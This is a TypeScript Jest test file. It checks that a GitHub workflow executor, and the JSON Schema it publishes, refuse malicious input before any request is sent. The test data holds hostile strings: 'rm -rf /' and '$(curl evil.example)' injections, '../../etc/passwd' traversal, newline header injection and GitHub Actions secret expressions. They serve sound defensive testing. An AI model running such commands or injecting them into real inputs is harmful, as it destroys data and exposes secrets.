// Bad input never reaches GitHub: injection, traversal, newlines and JSON fragments are refused in one
// line naming the field, by the executor and by the JSON Schema it publishes for the executor host.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Ajv } from 'ajv';
import { MillwrightError } from '../../../src/core/errors.js';
import { createGitHubExecutor } from '../../../src/executors/github/index.js';
import { executionContext, type Harness, startHarness } from './setup.js';

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => {
  await h.close();
});

const valid = {
  'dispatch-workflow': {
    owner: 'acme',
    repo: 'shop',
    workflow: 'deploy.yml',
    ref: 'main',
    inputs: { service: 'checkout' },
  },
  'list-runs': {
    owner: 'acme',
    repo: 'shop',
    workflow: 'deploy.yml',
    branch: 'main',
    status: 'failure',
    limit: 5,
  },
  'rerun-failed-jobs': { owner: 'acme', repo: 'shop', runId: 30433642 },
  'create-deployment': {
    owner: 'acme',
    repo: 'shop',
    ref: 'release/2026.11',
    environment: 'production',
    description: 'checkout rollout',
  },
  'list-deployments': { owner: 'acme', repo: 'shop', environment: 'production', limit: 5 },
} as const;

type Action = keyof typeof valid;
const INJECTIONS = [
  'main; rm -rf /',
  '$(curl evil.example)',
  '`id`',
  '../../etc/passwd',
  'main\nX-Injected: 1',
  '{"ref":"main"}',
  '"main"',
  'main && echo',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression is the injection under test
  '${{ secrets.TOKEN }}',
  '-rf',
  'a b',
  'main\u0000',
  'refs/heads/..',
  '',
];

/** Every (action, field, value) that must be refused. */
const cases: Array<[Action, string, unknown]> = [];
for (const value of INJECTIONS) {
  for (const action of Object.keys(valid) as Action[]) {
    cases.push([action, 'owner', value], [action, 'repo', value]);
  }
  cases.push(
    ['dispatch-workflow', 'ref', value],
    ['dispatch-workflow', 'workflow', value],
    ['create-deployment', 'ref', value],
    ['list-runs', 'branch', value],
    ['list-deployments', 'environment', value],
    ['create-deployment', 'environment', value],
  );
}
cases.push(
  ['dispatch-workflow', 'inputs', { service: 'checkout; rm -rf /' }],
  ['dispatch-workflow', 'inputs', { service: '$(id)' }],
  ['dispatch-workflow', 'inputs', { service: '`id`' }],
  ['dispatch-workflow', 'inputs', { service: '../secrets' }],
  ['dispatch-workflow', 'inputs', { service: 'a\nb' }],
  ['dispatch-workflow', 'inputs', { service: '{"x":1}' }],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a GitHub Actions expression is the injection under test
  ['dispatch-workflow', 'inputs', { service: '${{ github.token }}' }],
  ['dispatch-workflow', 'inputs', { 'bad name': 'x' }],
  ['dispatch-workflow', 'inputs', { service: { nested: true } }],
  ['dispatch-workflow', 'workflow', '../ci.yml'],
  ['dispatch-workflow', 'workflow', 'deploy.sh'],
  ['rerun-failed-jobs', 'runId', '42; rm -rf /'],
  ['rerun-failed-jobs', 'runId', -1],
  ['rerun-failed-jobs', 'runId', 1.5],
  ['list-runs', 'limit', 1000],
  ['list-runs', 'limit', 0],
  ['list-runs', 'status', 'failure; id'],
  ['create-deployment', 'description', 'line one\nline two'],
  ['create-deployment', 'description', 'x'.repeat(141)],
  ['create-deployment', 'description', 'deploy `whoami`'],
  ['create-deployment', 'requiredContexts', ['ci/build; id']],
  ['create-deployment', 'autoMerge', 'yes'],
  ['create-deployment', 'task', 'deploy; id'],
  ['dispatch-workflow', 'ref', 'main.lock'],
  ['dispatch-workflow', 'ref', '.hidden'],
  ['dispatch-workflow', 'ref', 'a//b'],
  ['dispatch-workflow', 'ref', 'release/'],
  ['dispatch-workflow', 'ref', 'x'.repeat(256)],
  ['dispatch-workflow', 'owner', 'acme-'],
  ['dispatch-workflow', 'owner', 'a'.repeat(40)],
  ['dispatch-workflow', 'repo', '..'],
  ['dispatch-workflow', 'repo', 'shop/other'],
);

const ajv = new Ajv({ strict: false });

describe('github executor input', () => {
  it('accepts the valid input of every action (the baseline the refusals vary from)', async () => {
    for (const [action, input] of Object.entries(valid)) {
      const schema = h.executor.metadata().actions[action]?.input ?? {};
      expect(ajv.validate(schema, structuredClone(input))).toBe(true);
    }
    await h.executor.execute(executionContext(h.logger), {
      action: 'list-runs',
      input: { ...valid['list-runs'] },
    });
    expect(h.github.requests.length).toBeGreaterThan(0);
  });

  it.each(cases)('%s refuses %s = %j before any request', async (action, field, value) => {
    h.github.requests.length = 0;
    const input = { ...valid[action], [field]: value };
    let refused: unknown;
    try {
      await h.executor.execute(executionContext(h.logger), { action, input });
    } catch (error) {
      refused = error;
    }
    expect(refused).toBeInstanceOf(MillwrightError);
    const error = refused as MillwrightError;
    expect(error.code).toBe('millwright_bad_argument');
    expect(error.message.startsWith(`github.${action}: ${field}`)).toBe(true);
    expect(error.message).not.toContain('\n');
    expect(error.message.length).toBeLessThan(260);
    expect(h.github.requests).toHaveLength(0);

    // The schema in the metadata, which the executor host checks first, refuses it too.
    const schema = h.executor.metadata().actions[action]?.input ?? {};
    expect(ajv.validate(schema, input)).toBe(false);
  });

  it('names a missing field and an unknown one', async () => {
    const run = (input: Record<string, unknown>) =>
      h.executor.execute(executionContext(h.logger), { action: 'create-deployment', input });
    await expect(run({ owner: 'acme', repo: 'shop' })).rejects.toMatchObject({
      code: 'millwright_bad_argument',
      message: 'github.create-deployment: ref is required',
    });
    await expect(run({ owner: 'acme', repo: 'shop', ref: 'main', payload: '{"x":1}' })).rejects.toMatchObject(
      {
        message: 'github.create-deployment: unknown input "payload"',
      },
    );
  });

  it('shows the refused value escaped on one line', async () => {
    await expect(
      h.executor.execute(executionContext(h.logger), {
        action: 'dispatch-workflow',
        input: { ...valid['dispatch-workflow'], ref: 'main\nrm -rf /' },
      }),
    ).rejects.toMatchObject({
      message:
        'github.dispatch-workflow: ref must be a branch, tag or commit sha (letters, digits, . _ / -; no "..", spaces or leading "-"), got "main\\nrm -rf /"',
    });
  });

  it('suggests the closest action for a typo', async () => {
    await expect(
      h.executor.execute(executionContext(h.logger), { action: 'list-run', input: valid['list-runs'] }),
    ).rejects.toMatchObject({ code: 'millwright_bad_argument', hint: 'did you mean "github.list-runs"?' });
  });
});

describe('github.allowedRepos', () => {
  it('refuses a repository outside the list before any request, and allows owner/* entries', async () => {
    const executor = createGitHubExecutor({
      baseUrl: h.github.url,
      logger: h.logger,
      allowedRepos: ['acme/payments', 'Platform/*'],
    });
    h.github.requests.length = 0;
    await expect(
      executor.execute(executionContext(h.logger), {
        action: 'list-deployments',
        input: { owner: 'acme', repo: 'shop' },
      }),
    ).rejects.toMatchObject({
      code: 'millwright_permission_denied',
      message: 'repository acme/shop is not in github.allowedRepos',
      hint: 'add "acme/shop" (or "acme/*") to github.allowedRepos in millwright.yml',
    });
    expect(h.github.requests).toHaveLength(0);

    // platform/* lets any platform repository through to GitHub (which then says it does not exist).
    await expect(
      executor.execute(executionContext(h.logger), {
        action: 'list-deployments',
        input: { owner: 'platform', repo: 'infra' },
      }),
    ).rejects.toMatchObject({ code: 'millwright_not_found' });
    expect(h.github.requests).toHaveLength(1);
  });
});
